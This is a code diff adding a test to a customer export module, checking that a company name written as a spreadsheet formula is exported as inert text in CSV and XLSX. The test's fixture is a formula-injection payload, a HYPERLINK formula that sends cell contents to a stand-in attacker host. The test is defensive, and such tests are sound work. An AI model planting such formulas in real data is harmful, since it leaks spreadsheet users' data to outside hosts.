@@ -1,8 +1,10 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { Readable } from 'node:stream';
 import ExcelJS from 'exceljs';
+import { eq } from 'drizzle-orm';
+import { companies } from '@keyway/db';
 import type { TestDb } from '@keyway/db/testing';
-import { actorFor, createSeededDb } from '../testing/fixtures.ts';
+import { actorFor, companyByAccount, createSeededDb } from '../testing/fixtures.ts';
 import { exportInputFromQuery, prepareCustomerExport, startCustomerExport } from './export.ts';
 
 let t: TestDb;
@@ -51,6 +53,24 @@ describe('customer summary export', () => {
     const actor = await actorFor(t.db, 'customer-account-manager@bluefin-it.example');
     for (let i = 0; i < 10; i++) (await startCustomerExport(t.db, actor, { format: 'csv', filters: {} })).stream.destroy();
     await expect(startCustomerExport(t.db, actor, { format: 'csv', filters: {} })).rejects.toThrow('Too many exports');
+  });
+
+  it('writes a customer named like a spreadsheet formula as text, in CSV and in XLSX', async () => {
+    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    const globex = await companyByAccount(t.db, 'globex');
+    await t.db.update(companies).set({ name: hostile }).where(eq(companies.id, globex.id));
+    const actor = await actorFor(t.db, 'admin@summit-msp.example');
+
+    const csv = await text((await startCustomerExport(t.db, actor, { format: 'csv', filters: {} })).stream);
+    const line = csv.split('\n').find((l) => l.includes('evil.example'));
+    expect(line).toMatch(/^"'=HYPERLINK\(""http:\/\/evil\.example\/\?x=""&A1,""click""\)",globex,/);
+
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.read((await startCustomerExport(t.db, actor, { format: 'xlsx', filters: {} })).stream);
+    const cell = workbook.getWorksheet('Customers')!.getColumn(1).values.indexOf(hostile);
+    const written = workbook.getWorksheet('Customers')!.getRow(cell).getCell(1);
+    expect(written.type).toBe(ExcelJS.ValueType.String);
+    expect(written.value).toBe(hostile);
   });
 
   it('refuses a download address it did not make', () => {
